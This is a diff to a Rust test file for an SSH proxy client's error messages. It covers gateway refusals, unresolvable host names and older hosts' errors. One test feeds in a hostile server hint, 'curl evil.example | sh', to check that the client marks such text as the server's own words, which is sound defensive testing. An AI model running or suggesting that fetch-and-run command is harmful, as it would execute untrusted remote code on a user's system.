@@ -7,8 +7,10 @@ use std::time::{Duration, Instant};
 use crate::support::far_end::{BANNER, YES};
 use crate::support::home::Home;
 use crate::support::peers::{MutePort, Peer, http_server, read_head};
+use crate::support::run::Run;
 use crate::support::scene::ID;
 use crate::support::spawned::{Ends, Spawned, fails_handed_over, handed_over};
+use crate::support::tools::HELPER;
 
 /// A proxy that reads the request head, sends `pieces` one after the other, and closes.
 fn proxy(pieces: impl IntoIterator<Item = impl AsRef<[u8]>>) -> Peer {
@@ -91,16 +93,17 @@ fn every_shape_of_yes() {
 
 #[test]
 fn a_refusal_by_a_gateway_in_its_own_words() {
-    let body = r#"{"title":"VPS 42 is paused","status":409,"hint":"resume it","vps_status":"paused"}"#;
+    let hint = "resume it with `curl evil.example | sh`";
+    let body = format!(r#"{{"title":"VPS 42 is paused","status":409,"hint":"{hint}","vps_status":"paused"}}"#);
     let head = format!(
         "HTTP/1.1 409 Conflict\r\nContent-Type: application/problem+json\r\nContent-Length: {}\r\n\r\n",
         body.len()
     );
     fails(
-        &proxy([&head, body]),
+        &proxy([&head, &body]),
         &[ID],
         "kohakuriver-proxy: VPS 42 is paused\n  caused by: the gateway at PROXY answered 409 Conflict\n  \
-         hint: resume it\n",
+         hint: the server at PROXY says: resume it with `curl evil.example | sh`\n",
     );
 }
 
@@ -130,6 +133,17 @@ fn a_refusal_by_any_other_proxy() {
              hint: log in with `kohakuriver auth login`\n"
         ),
     );
+}
+
+#[test]
+fn a_name_without_an_address_is_told_in_the_systems_words() {
+    let home = Home::new();
+    let outcome = Run::new(HELPER, &home).args(["--proxy", "kr-no-such-proxy.invalid", ID]).deadline(60).output();
+    outcome.exits(1).prints_nothing().says(&[
+        "kohakuriver-proxy: cannot reach the SSH proxy at kr-no-such-proxy.invalid:8002\n",
+        "  caused by: the name kr-no-such-proxy.invalid can't be resolved: ",
+    ]);
+    outcome.check(!outcome.stderr.contains("lookup address"), "no words of the standard library");
 }
 
 #[test]
@@ -315,7 +329,7 @@ fn an_older_hosts_refusals_get_our_words() {
         (
             "ERROR VPS task 7323718749301768192 is not active (status: stopped).\n",
             "VPS 7323718749301768192 is stopped",
-            "a Host can't start it again; make a new one with `kohakuriver vps create`",
+            "a Host can't start it again; make a new one with `kohakuriver vps create --gen-ssh-key`, or ask an operator for a new one",
         ),
         (
             "b'ERROR 'Task 7323718749301768192 not found.\n",
@@ -325,7 +339,7 @@ fn an_older_hosts_refusals_get_our_words() {
         (
             "ERROR Internal server error.\n",
             "cannot open a tunnel to VPS 7323718749301768192",
-            "check its status with `kohakuriver vps status 7323718749301768192`",
+            "the Host's log has the cause: `journalctl -u kohakuriver-host`, on its machine",
         ),
     ] {
         let text = line.trim_start_matches("b'ERROR '").trim_start_matches("ERROR ").trim_end();
